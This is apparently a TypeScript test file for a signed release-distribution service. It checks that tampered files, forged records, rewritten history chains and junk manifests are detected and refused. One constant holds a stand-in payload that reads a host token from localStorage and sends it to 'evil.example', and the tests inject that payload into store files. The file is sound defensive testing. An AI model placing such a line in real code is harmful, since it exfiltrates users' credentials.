import { beforeEach, describe, expect, test } from 'vitest';
import { hashOf, integrityOf } from './file-list.ts';
import { storeGate } from './gate.ts';
import { RENEWED_AFTER } from './manifest.ts';
import { statusOf } from './overview.ts';
import { headOf, type ReleaseEvent } from './release-event.ts';
import { ReleaseService } from './release-service.ts';
import { generateKey, sign } from './signing.ts';
import { storeKeys } from './store.ts';
import { descriptorOf, folderWith, newVersionOf, type TestReleases, testReleases } from './testing.ts';
import { ENTRY_FILE } from './version-record.ts';

/* An attacker who can write to the store, but has no signing key. */

const EVIL = Buffer.from('fetch("https://evil.example/" + localStorage.getItem("tessera.host.token"))');
const audit = { who: 'olga', why: 'because' };
const markets = (version: string) => ({ name: 'markets', version });
const nft = { name: 'nft', version: '1.0.0' };

let release: TestReleases;
let service: ReleaseService;

beforeEach(async () => {
  release = await testReleases();
  const { store, clock } = release;
  service = new ReleaseService({
    store,
    now: () => clock.now,
    random: () => 'random0000000001',
    gate: storeGate(store),
  });
  for (const version of ['1.0.0', '1.0.1']) await release.publish('markets', version);
  await release.publish('nft', '1.0.0', { descriptor: descriptorOf('nft') });
  await service.promote(markets('1.0.0'), audit);
});

const put = (key: string, content: string | Uint8Array) => release.store.storage.put(key, Buffer.from(content));
const text = async (key: string) => Buffer.from((await release.store.storage.get(key)) ?? []).toString();
const json = async (key: string) => JSON.parse(await text(key));
const alter = async (key: string, change: (text: string) => string) => put(key, change(await text(key)));
const delivered = async () => JSON.stringify(await release.inForce());

/** Alters the entry of a version, and its hash in the record. */
async function alterVersion(version: string): Promise<void> {
  await put(storeKeys.file('markets', version, ENTRY_FILE), EVIL);
  const known = integrityOf(Buffer.from(`markets ${version}`));
  await alter(storeKeys.record('markets', version), (record) => record.replaceAll(known, integrityOf(EVIL)));
  expect(await text(storeKeys.record('markets', version))).toContain(integrityOf(EVIL));
}

/** The chain as an attacker with the sources would recompute it. */
async function rewriteHistory(change: (event: ReleaseEvent) => ReleaseEvent): Promise<void> {
  let before: string | null = null;
  for (const event of await release.store.history()) {
    const { hash: _old, ...rest } = { ...change(event), before };
    before = hashOf(JSON.stringify(rest));
    await put(storeKeys.event(event.state.epoch), JSON.stringify({ ...rest, hash: before }));
  }
}

describe('an altered file with an altered hash in its record', () => {
  test('of a live version is not signed by an unrelated move', async () => {
    await alterVersion('1.0.0');
    await service.promote(nft, audit);
    expect(await delivered()).toContain(integrityOf(Buffer.from('markets 1.0.0')));
    expect(await delivered()).not.toContain(integrityOf(EVIL));
  });

  test('of another version is not promoted, ramped, previewed or restored', async () => {
    await service.promote(markets('1.0.1'), audit);
    await service.promote(nft, audit);
    await service.revert(1, { ...audit, force: true });
    await alterVersion('1.0.1');
    const refused = { code: 'store_damaged', message: expect.stringContaining('records/markets/1.0.1.json') };
    await expect(service.promote(markets('1.0.1'), { ...audit, force: true })).rejects.toMatchObject(refused);
    await expect(service.ramp(markets('1.0.1'), 5, audit)).rejects.toMatchObject(refused);
    await expect(service.preview(markets('1.0.1'), 5, audit)).rejects.toMatchObject(refused);
    await expect(service.revert(2, { ...audit, force: true })).rejects.toMatchObject(refused);
    expect(await delivered()).not.toContain(integrityOf(EVIL));
  });

  test('does not become valid by the signed record of another version, or by a key of the attacker', async () => {
    const own = storeKeys.record('markets', '1.0.1');
    const record = JSON.parse((await json(own)).payload);
    await put(own, await text(storeKeys.record('markets', '1.0.0')));
    await expect(service.promote(markets('1.0.1'), audit)).rejects.toThrow('is the record of markets@1.0.0');
    await put(own, JSON.stringify(await sign(record, [await generateKey('test', 0)])));
    await expect(service.promote(markets('1.0.1'), audit)).rejects.toThrow('no known key signed it');
    await put(own, JSON.stringify(record));
    await expect(service.promote(markets('1.0.1'), audit)).rejects.toMatchObject({ code: 'store_damaged' });
  });

  test('alone is found before the version is released', async () => {
    await put(storeKeys.file('markets', '1.0.1', ENTRY_FILE), EVIL);
    for (const attempt of [
      () => service.promote(markets('1.0.1'), audit),
      () => service.ramp(markets('1.0.1'), 5, audit),
    ]) {
      await expect(attempt()).rejects.toThrow(`markets@1.0.1 is damaged: ${ENTRY_FILE}`);
    }
  });
});

describe('junk in the place of the renewed manifest', () => {
  test.each(['junk', '{}', '{"schema":2,"payload":"{}","signatures":[]}'])('(%s) signs nothing else', async (junk) => {
    await alterVersion('1.0.0');
    await put(storeKeys.renewed(1), junk);
    release.clock.now += RENEWED_AFTER;
    expect(await service.renew()).toBe(true);
    expect(await release.inForce()).toMatchObject({ epoch: 1, issuedAt: release.clock.now });
    expect(await delivered()).not.toContain(integrityOf(EVIL));
  });

  test('and of the released one: renewal refuses', async () => {
    const event = await service.latest();
    await alterVersion('1.0.0');
    await put(storeKeys.renewed(1), 'junk');
    await put(event?.manifest ?? '', 'junk');
    await expect(service.renew(true)).rejects.toMatchObject({ code: 'store_damaged' });
    await expect(service.promote(nft, audit)).rejects.toMatchObject({ code: 'store_damaged' });
  });
});

describe('the history', () => {
  beforeEach(async () => {
    await service.promote(nft, audit);
    await service.promote(markets('1.0.1'), audit);
  });

  test('has its head in the signed manifest', async () => {
    const latest = (await service.latest()) as ReleaseEvent;
    expect((await release.inForce()).head).toBe(headOf(latest));
    release.clock.now += RENEWED_AFTER;
    await service.renew();
    expect((await release.inForce()).head).toBe(headOf(latest));
  });

  test.each([1, 2, 3])('notices another “who” in epoch %d, also with a recomputed chain', async (epoch) => {
    expect((await statusOf(service)).chain).toBe('whole');
    await rewriteHistory((event) => (event.state.epoch === epoch ? { ...event, who: 'mallory' } : event));
    expect(await service.brokenAt()).toBeDefined();
    const status = await statusOf(service).catch(({ code }) => code);
    expect(status.chain ?? status).toMatch(/broken|store_damaged/);
  });

  test('notices another “why” of an old event whose hash stays', async () => {
    await alter(storeKeys.event(2), (event) => event.replace('because', 'it was never so'));
    expect((await statusOf(service)).chain).toBe('broken');
    expect(await service.brokenAt()).toBe(2);
  });

  test('that was altered is not what a rollback or revert goes back to', async () => {
    await alter(storeKeys.event(1), (event) => event.replaceAll('1.0.0', '1.0.1'));
    await expect(service.revert(1, audit)).rejects.toMatchObject({ code: 'epoch_unknown' });
    expect((await service.revert(2, audit)).state.remotes).toMatchObject([{ stable: '1.0.0' }, { name: 'nft' }]);
  });

  test('takes no forged move: the next release does not start from it', async () => {
    const latest = (await service.latest()) as ReleaseEvent;
    const state = {
      ...latest.state,
      epoch: 4,
      remotes: latest.state.remotes.map((slot) => ({ ...slot, stable: '1.0.0' })),
    };
    const { hash: _hash, ...forged } = { ...latest, state, before: latest.hash };
    await put(storeKeys.event(4), JSON.stringify({ ...forged, hash: hashOf(JSON.stringify(forged)) }));
    expect((await service.latest())?.state.epoch).toBe(3);
    expect(await service.brokenAt()).toBe(4);
    await expect(service.promote(markets('1.0.0'), audit)).rejects.toMatchObject({ code: 'store_damaged' });
  });
});

describe('a damaged object', () => {
  test.each(['', '{', '{"schema":2}'])('(%j) in the place of the next move blocks no move', async (junk) => {
    await put(storeKeys.event(2), junk);
    expect((await service.promote(nft, audit)).state.epoch).toBe(2);
    expect(await service.brokenAt()).toBeUndefined();
    const [aside = ''] = await release.store.storage.list('damaged/');
    expect([aside.endsWith(storeKeys.event(2)), await text(aside)]).toEqual([true, junk]);
  });

  test.each(['', 'junk'])('(%j) that was the last move is not skipped: that would undo it', async (junk) => {
    await service.promote(markets('1.0.1'), audit);
    await put(storeKeys.event(2), junk);
    await expect(service.promote(nft, audit)).rejects.toMatchObject({
      code: 'store_damaged',
      message: expect.stringContaining('tessera doctor'),
    });
    expect(await service.brokenAt()).toBe(2);
  });

  test.each(['', '{', '{"schema":2}'])(
    '(%j) that is the record of a live version disables that version only',
    async (junk) => {
      await put(storeKeys.record('markets', '1.0.0'), junk);
      await service.promote(nft, { ...audit, why: 'not affected' });
      // What the damaged record asked for is unknown, so that all is: a ramp first, and another member than the publisher.
      await expect(service.promote(markets('1.0.1'), audit)).rejects.toMatchObject({
        reasons: [{ code: 'ramp_missing' }],
      });
      await service.ramp(markets('1.0.1'), 5, audit);
      await service.promote(markets('1.0.1'), audit);
      await expect(service.ramp(markets('1.0.0'), 5, audit)).rejects.toMatchObject({ code: 'store_damaged' });
      expect((await release.store.versions('markets')).map(({ version }) => version)).toEqual(['1.0.1']);
      expect((await statusOf(service)).remotes.map(({ name, stable }) => `${name}@${stable}`)).toEqual([
        'markets@1.0.1',
        'nft@1.0.0',
      ]);
      expect((await service.prune(release.clock.now)).versions).toEqual([]);
      // The way back needs no record: the version is in the last signed manifest.
      await service.rollback('markets', audit);
      expect(await delivered()).toContain(integrityOf(Buffer.from('markets 1.0.0')));
    },
  );

  test('is restored by publishing the same content again, and by no other', async () => {
    const publish = async (content: string) =>
      release.store.publish(newVersionOf('markets', '1.0.0'), await folderWith({ [ENTRY_FILE]: content }));
    await put(storeKeys.file('markets', '1.0.0', ENTRY_FILE), EVIL);
    await expect(publish('other')).rejects.toMatchObject({ code: 'version_exists' });
    await publish('markets 1.0.0');
    expect(await text(storeKeys.file('markets', '1.0.0', ENTRY_FILE))).toBe('markets 1.0.0');
    await expect(publish('markets 1.0.0')).rejects.toMatchObject({ code: 'version_exists' });
    await put(storeKeys.record('markets', '1.0.0'), '');
    await put(storeKeys.claim('markets', '1.0.0'), 'junk');
    await put(storeKeys.file('markets', '1.0.0', ENTRY_FILE), EVIL);
    await publish('markets 1.0.0');
    expect(await release.store.intact('markets', '1.0.0')).toBe(true);
  });

  test('that is the contract of the host or declared types rejects with a reason that can be overridden', async () => {
    await service.takeOver(
      { host: { version: '2.0.0', contract: { provides: {}, types: hashOf('x') } }, remotes: [] },
      { ...audit, force: true },
    );
    await put(storeKeys.host('2.0.0'), '');
    await expect(service.promote(markets('1.0.1'), audit)).rejects.toMatchObject({
      code: 'incompatible',
      reasons: [{ code: 'contract_missing' }],
    });
    await service.promote(markets('1.0.1'), { ...audit, force: true });
  });

  test('that is a claim or a preview does not stop pruning', async () => {
    await put(storeKeys.claim('nft', '9.9.9'), '{');
    await put(storeKeys.preview('random0000000009'), '{');
    const claim = storeKeys.claim('nft', '9.9.9');
    await service.prune(release.clock.now);
    expect(await release.store.storage.list('previews/')).toEqual([]);
    expect(await release.store.storage.list('claims/')).toContain(claim);
  });
});
